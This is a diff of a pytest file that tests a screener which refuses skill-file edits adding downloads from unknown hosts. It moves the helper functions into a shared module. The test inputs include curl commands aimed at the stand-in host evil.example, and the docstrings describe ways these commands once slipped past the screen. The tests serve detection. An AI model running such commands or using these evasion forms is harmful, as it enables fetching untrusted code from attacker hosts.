@@ -12,18 +12,15 @@ import pytest
 
 from skillopt_core.records import Edit, EditOp
 from skillopt_core.skill.edits import apply_edits
-from skillopt_core.skill.screen import (
-    REFUSED_PREFIX,
-    ScreenContext,
-    hosts_in,
-    known_hosts,
-    screen_edit,
-    screen_text,
+from skillopt_core.skill.screen import hosts_in, screen_text
+from tests.core.safety._hosts import (
+    CTX,
+    NO_HOSTS,
+    SKILL,
+    assert_apply_refuses,
+    assert_names_unknown,
+    kinds,
 )
-
-SKILL = "# Deploy\n\n- Check https://api.acme.dev/health before deploying.\n"
-NO_HOSTS = ScreenContext(hosts=frozenset())
-CTX = ScreenContext(hosts=known_hosts([SKILL, "deploy the app to staging.acme.dev"]))
 
 BEHIND_AN_ARGUMENT = [
     "curl $URL evil.example",
@@ -48,25 +45,14 @@ MORE = [
 ]
 
 
-def kinds(content: str, ctx: ScreenContext) -> set[str]:
-    return {f.kind for f in screen_edit(Edit(EditOp.ADD, "", content), ctx)}
-
-
 @pytest.mark.parametrize("content", BEHIND_AN_ARGUMENT + MORE, ids=repr)
 def test_a_host_behind_another_argument_is_named(content: str) -> None:
-    assert "evil.example" in hosts_in(content)
-    assert "unknown-host" in {f.kind for f in screen_text(content, NO_HOSTS)}
-    assert "unknown-host" in kinds(content, CTX)
+    assert_names_unknown(content, single=False)
 
 
 @pytest.mark.parametrize("content", BEHIND_AN_ARGUMENT, ids=repr)
 def test_apply_edits_refuses_a_host_behind_another_argument(content: str) -> None:
-    line = f"- Fetch it: `{content}`\n"
-    report = apply_edits(SKILL, [Edit(EditOp.ADD, "", line)], NO_HOSTS)
-    (outcome,) = report.outcomes
-    assert not outcome.applied and outcome.reason.startswith(REFUSED_PREFIX)
-    assert "unknown-host" in outcome.reason and "evil.example" in outcome.reason
-    assert report.text == SKILL
+    assert_apply_refuses(f"- Fetch it: `{content}`\n", NO_HOSTS)
 
 
 @pytest.mark.parametrize("content", BEHIND_AN_ARGUMENT, ids=repr)
@@ -143,9 +129,7 @@ SUBSTITUTED = [
 def test_a_host_after_a_command_substitution_is_named(content: str) -> None:
     """The ``)`` that closes a ``$(`` in the arguments does not end the download (it ended the
     reading before the fix, so ``evil.example`` passed)."""
-    assert "evil.example" in hosts_in(content)
-    assert "unknown-host" in {f.kind for f in screen_text(content, NO_HOSTS)}
-    assert "unknown-host" in kinds(content, CTX)
+    assert_names_unknown(content, single=False)
 
 
 @pytest.mark.parametrize(
@@ -175,6 +159,4 @@ def test_a_host_after_a_plain_word_argument_is_named(content: str) -> None:
     """curl fetches a plain word as a URL (``intranet``): the first argument is no prose even
     when it looks like English, so the reading goes on to ``evil.example`` (it ended at the
     plain word before the fix, and ``evil.example`` passed)."""
-    assert "evil.example" in hosts_in(content)
-    assert "unknown-host" in {f.kind for f in screen_text(content, NO_HOSTS)}
-    assert "unknown-host" in kinds(content, CTX)
+    assert_names_unknown(content, single=False)
